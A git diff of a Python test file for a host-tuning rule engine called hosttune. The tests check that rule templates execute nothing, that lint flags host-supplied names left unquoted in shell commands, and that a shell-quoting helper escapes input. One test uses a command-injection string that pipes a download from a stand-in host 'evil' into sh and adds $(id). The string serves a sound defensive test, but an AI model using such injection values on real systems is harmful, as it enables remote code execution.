@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import json
+import subprocess
+
 import pytest
 
 from hosttune.actions.examine import examine
 from hosttune.engine.catalog import assembled, builtin_catalog, load_catalog
-from hosttune.engine.lint import checked_rule, key_faults, rule_faults
+from hosttune.engine.expressions import compile_text
+from hosttune.engine.lint import checked_rule, key_faults, lint_faults, rule_faults
 from hosttune.engine.policy import Policy
 from hosttune.engine.policy_file import load_policy
 from hosttune.engine.yamlio import load_document
-from hosttune.errors import BadInput, HosttuneError
+from hosttune.errors import BadInput, HosttuneError, Where
 from hosttune.rendering import render
 from hosttune.values import HoldKind, Verdict
 from tests.unit.fake_reader import FakeReader
@@ -270,10 +274,15 @@ def test_template_of_a_rule_is_one_of_ours_and_runs_nothing(tmp_path, form):
     text = RULE[: RULE.index("  - sysctl")] + wish
     files = {f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": "select: [site-swappiness]"}
     reader = FakeReader(files)
-    with pytest.raises(HosttuneError) as caught:
+    try:
         found = load_catalog(reader)
-        examine(reader, found, load_policy(reader, found)).plan()
-    assert "SECRET" not in str(caught.value)
+        plan = examine(reader, found, load_policy(reader, found)).plan()
+        (said,) = (one for one in plan.findings if one.rule == "site-swappiness")
+        assert said.verdict is Verdict.UNKNOWN
+    except BadInput as refused:
+        said = refused
+    assert "template must be one of" in str(said) or "is not one of the choices" in str(said)
+    assert "SECRET" not in str(said)
     assert not (tmp_path / "ran").exists()
 
 
@@ -282,3 +291,70 @@ def test_values_of_a_template_run_nothing(monkeypatch):
     monkeypatch.setitem(render.__globals__["_environment"]().loader.__dict__, "load_func", lambda _name: text)
     with pytest.raises(HosttuneError, match="SecurityError"):
         render("a-template.j2", value="")
+
+
+def told_of(*wishes, others=""):
+    """What a host says whose record brings a rule with these wishes."""
+    text = RULE[: RULE.index("  - sysctl")] + "".join(f"  - {wish}\n" for wish in wishes)
+    policy = f"select: [site-swappiness{others}]"
+    reader = FakeReader({f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy})
+    found = load_catalog(reader)
+    return {one.rule: one for one in examine(reader, found, load_policy(reader, found)).plan(prove=False).findings}
+
+
+@pytest.mark.parametrize(
+    ("wish", "said"),
+    [
+        ("{dropin: /x, template: \"{{ 'document.html.j2' }}\"}", "want[0].template: template must be one of "),
+        ("{dropin: /x, template: nfs-read-ahead.conf.j2, trigger: \"{{ 'restart' }}\"}", "trigger must be one of daemon-reload"),
+        ("{dropin: /x, template: nfs-read-ahead.conf.j2, activation: \"{{ 'zz' }}\"}", "activation must be one of "),
+        ("{sysfs: /sys/block/sda/queue/scheduler, exactly: none, persist: \"{{ 'zz' }}\"}", "persist must be one of "),
+        ('{sysctl: vm.swappiness, exactly: "{{ policy }}"}', "exactly must be a text, a number"),
+        ("{dropin: /x, template: nfs-read-ahead.conf.j2, vars: {self: 1}}", "template nfs-read-ahead.conf.j2: "),
+        ("{dropin: /x, template: nfs-read-ahead.conf.j2}", "template nfs-read-ahead.conf.j2: "),
+    ],
+)  # fmt: skip
+def test_value_that_a_field_does_not_take_is_told_of_its_rule(wish, said):
+    """Of an expression lint knows the type only; another value costs this rule, and nothing else."""
+    findings = told_of(wish, others=", memory-swappiness")
+    assert findings["site-swappiness"].verdict is Verdict.UNKNOWN
+    assert said in findings["site-swappiness"].reason
+    assert "memory-swappiness" in findings
+
+
+@pytest.mark.parametrize(
+    ("do", "parts"),
+    [
+        ("sudo ip link set {{ item.name }} mtu {{ item.size_bytes }}", ["item.name"]),
+        ("sudo ip link set {{ shell_word(item.name) }} mtu {{ item.size_bytes + 1 }}", []),
+        ('see "$(systemd-escape {{ item.name }})"', ["item.name"]),
+        ("`cat {{ item.name }}` tells", ["item.name"]),
+        ("{{ 'sudo rm ' + item.name if item.size_bytes > 1 else 'nothing ' + str(item.size_bytes) }}", ["item.name"]),
+        ("sudo rm {{ join([item.name], ' ') }} {{ join([shell_word(d.name) for d in disks.all], ' ') }}", ["join([item.name], ' ')"]),
+        ("sudo rm {{ join([d.name for d in disks.all], item.name) }}", ["d.name", "item.name"]),
+        ("sudo rm {{ lower(shell_word(item.name)) }}", ["lower(shell_word(item.name))"]),
+        ("look at {{ item.name }}", []),
+    ],
+)  # fmt: skip
+def test_lint_tells_a_name_that_stands_in_a_command_without_quotes(do, parts):
+    """What a device, a mount point or a package is called comes from the host; people copy the command."""
+    text = (
+        RULE[: RULE.index("want:")]
+        + f"""for_each: disks.all
+expect:
+  - if: item.size_bytes == 0
+    else: x
+    do: {json.dumps(do)}
+"""
+    )
+    document = load_document(text, "site-swappiness.yaml")
+    assert not [fault for fault in rule_faults(document) if "size_bytes" not in fault.message]
+    assert [fault.message for fault in lint_faults(document)] == [
+        f"`{one}` stands in a command without quotes" for one in parts
+    ]
+
+
+def test_shell_word_is_one_word_for_a_shell():
+    name = "/data2;curl${IFS}evil|sh;#'$(id)`id`\n"
+    text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate({"item": name})
+    assert subprocess.run(["sh", "-c", text], capture_output=True, text=True, check=True).stdout == name
